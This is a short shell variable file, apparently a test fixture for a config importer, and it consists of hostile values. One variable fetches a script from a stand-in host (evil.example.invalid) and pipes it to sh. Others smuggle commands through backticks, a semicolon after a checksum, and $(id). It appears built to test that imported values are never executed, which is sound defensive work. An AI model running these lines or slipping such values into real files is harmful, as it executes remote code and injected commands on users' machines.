BASE_URL=https://images.example.invalid/evil
DOWNLOAD_FILE=$(curl -fsSL https://evil.example.invalid/x | sh)
AMD64_SHA256SUM=`touch /tmp/kvc-import-pwned`
ARM64_SHA256SUM=e629ae035838888abc713a9adfec5cb90cd78bdb28da50554315a147af397250; touch /tmp/kvc-import-pwned
source /etc/profile
_X=${HOME:-$(id)}
